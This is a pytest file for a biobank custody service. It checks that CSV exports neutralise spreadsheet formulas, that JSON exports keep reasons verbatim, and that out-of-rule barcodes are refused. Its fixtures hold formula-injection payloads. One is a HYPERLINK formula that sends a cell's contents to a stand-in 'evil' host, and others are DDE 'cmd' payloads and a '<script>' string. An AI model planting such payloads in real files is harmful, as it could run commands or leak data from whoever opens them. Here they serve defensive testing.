"""Safe exports: every CSV cell the service writes goes through biobank.csvsafe, so a
formula typed as a reason stays text in the inspector's spreadsheet; and codes other
systems printed keep one printable character set wherever they come in."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest

from biobank.custody.service import record_events
from tests.test_import import patient, row, run_import, write_csv  # noqa: F401 (fixtures)

FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\tTAB=1+1",
    "-2+3+cmd|' /C calc'!A0",
]
DAY = dt.datetime(2026, 3, 10, 12, 0, tzinfo=dt.UTC)
PACKAGE = Path(__file__).resolve().parent.parent / "biobank"


@pytest.fixture
def taken_out(make_aliquots, session):  # type: ignore[no-untyped-def]
    """A tube taken out five times, each with a formula as its reason."""
    tube = make_aliquots(n=1)[0]
    record_events(
        session,
        [
            {"event_type": "taken_out", "aliquot_id": tube.id, "reason": reason}
            for reason in FORMULAS
        ],
        "tech-x",
        at=DAY,
    )
    session.commit()
    return tube


def reasons(text: str) -> list[str]:
    """The reason column of a custody CSV export, event by event."""
    return [
        row["reason"]
        for row in csv.DictReader(io.StringIO(text))
        if row["event_type"] == "taken_out"
    ]


def test_the_custody_export_of_a_tube_neutralises_formulas(manager, taken_out):
    """GET /aliquots/{code}/events/export?format=csv: each formula reason is written
    with a leading apostrophe (text in a spreadsheet), nothing else changed."""
    response = manager.get(f"/api/v1/aliquots/{taken_out.barcode}/events/export?format=csv")
    assert response.status_code == 200
    assert reasons(response.get_data(as_text=True)) == ["'" + r for r in FORMULAS]


def test_the_date_range_export_neutralises_formulas(manager, taken_out):
    """GET /custody/events?format=csv: the same for the date-range export."""
    response = manager.get("/api/v1/custody/events?from=2026-03-10&to=2026-03-10&format=csv")
    assert response.status_code == 200
    assert reasons(response.get_data(as_text=True)) == ["'" + r for r in FORMULAS]


def test_the_json_export_keeps_the_reasons_as_they_were_given(manager, taken_out):
    """JSON is no spreadsheet: the reasons come back exactly as recorded."""
    body = manager.get(f"/api/v1/aliquots/{taken_out.barcode}/events/export").json
    assert [e["reason"] for e in body["events"] if e["event_type"] == "taken_out"] == FORMULAS


def test_only_csvsafe_writes_csv():
    """One writer: no module of the service but biobank/csvsafe.py makes a csv writer."""
    writer = re.compile(r"csv\.(writer|DictWriter)\b")
    found = [
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if path.name != "csvsafe.py" and writer.search(path.read_text(encoding="utf-8"))
    ]
    assert found == []


# --- external codes: one character set --------------------------------------------------

BAD_CODES = [
    "=cmd|x!A0",
    "<script>",
    "-FR1234",
    "+FR1234",
    "@FR1234",
    "FR 1234",
    "FR\u00a01234",
    "FR1234;",
    "FR'1",
    "ab",
]


@pytest.mark.parametrize("code", BAD_CODES)
def test_import_refuses_external_codes_outside_the_rule(runner, row, write_csv, session, code):
    """`flask import aliquots`: a barcode outside letters, digits and . _ - (a letter or
    digit first, 3-64 long) is a problem naming the line; nothing is imported."""
    result = run_import(runner, write_csv([row(barcode="FR0001234"), row(barcode=code)]))
    assert result.exit_code == 1, result.output
    [line] = [line for line in result.stderr.splitlines() if line.startswith("line ")]
    assert line.startswith("line 3, column barcode:")
    assert "not a tube or rack code" in line


@pytest.mark.parametrize("code", BAD_CODES)
def test_registration_refuses_external_codes_outside_the_rule(tech, make_sample, code):
    """Splitting into pre-barcoded tubes: the same rule, a 422 naming the tube's field."""
    sample = make_sample()
    response = tech.post(
        f"/api/v1/samples/{sample.barcode}/split",
        json={"aliquots": [{"aliquot_type": "PLASMA", "volume_ml": "0.5", "barcode": code}]},
    )
    assert response.status_code == 422, response.json
    assert "barcode" in str(response.json["errors"])


def test_the_split_service_keeps_the_rule_below_the_api(session, make_sample):
    """Below the API (scripts, other callers): the service refuses such a code too."""
    from decimal import Decimal

    from biobank.errors import Invalid
    from biobank.samples import service as samples

    with pytest.raises(Invalid, match="not a tube or rack code"):
        samples.split(
            session,
            "x",
            make_sample(),
            [{"aliquot_type": "PLASMA", "volume_ml": Decimal("0.5"), "barcode": "=cmd|x!A0"}],
            samples.Numbering(),
        )


@pytest.mark.parametrize("code", ["=cmd|x!A0", "<script>", "-RACK1"])
def test_a_boxs_own_code_keeps_the_rule(session, code):
    """A rack's own code given when the box is made: refused outside the rule."""
    from biobank.errors import Invalid
    from biobank.samples.service import Numbering
    from biobank.storage import service as storage

    storage.load_default_box_types(session, "setup")
    freezer = storage.create_freezer(
        session,
        "setup",
        {"site": "NL-PMC", "name": "F-80-11", "freezer_type": "mechanical-80"},
        Numbering(),
    )
    with pytest.raises(Invalid, match="not a tube or rack code"):
        storage.create_box(
            session,
            "setup",
            {"box_type": "SBS96", "parent": freezer.barcode, "external_barcode": code},
            Numbering(),
        )


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("=cmd|x!A0,A1,FX05653701\n=cmd|x!A0,A2,FX05653702\n", "rack code"),
        ("RK1,A1,-FX05653701\n", "line 1"),
        ("RK1,A1,FX05653701\nRK1,A2,@SUM(1)\n", "line 2"),
    ],
)
def test_rack_scans_keep_the_rule_for_rack_and_tube_codes(tech, session, text, words):
    """A rack scan whose rack code or a tube code is outside the rule is a 422 naming it;
    the rack code is never offered to the box."""
    from biobank.samples.service import Numbering
    from biobank.storage import service as storage

    storage.load_default_box_types(session, "setup")
    freezer = storage.create_freezer(
        session,
        "setup",
        {"site": "NL-PMC", "name": "F-80-12", "freezer_type": "mechanical-80"},
        Numbering(),
    )
    box = storage.create_box(
        session, "setup", {"box_type": "SBS96", "parent": freezer.barcode}, Numbering()
    )
    session.commit()
    response = tech.post(
        f"/api/v1/boxes/{box.barcode}/scan-upload", data=text, headers={"Content-Type": "text/csv"}
    )
    assert response.status_code == 422, response.json
    assert words in response.json["message"]
    assert "not a tube or rack code" in response.json["message"]


def test_good_external_codes_still_pass(tech, make_sample):
    """FluidX, Matrix and Micronic codes (digits, letters, dots, dashes) are accepted."""
    sample = make_sample(volume_ml=__import__("decimal").Decimal("4"))
    response = tech.post(
        f"/api/v1/samples/{sample.barcode}/split",
        json={
            "aliquots": [
                {"aliquot_type": "PLASMA", "volume_ml": "0.5", "barcode": code}
                for code in ("FX05653701", "0123456789", "RK-000881.2", "ab_1")
            ]
        },
    )
    assert response.status_code == 201, response.json
    assert [a["barcode"] for a in response.json] == [
        "FX05653701",
        "0123456789",
        "RK-000881.2",
        "AB_1",
    ]
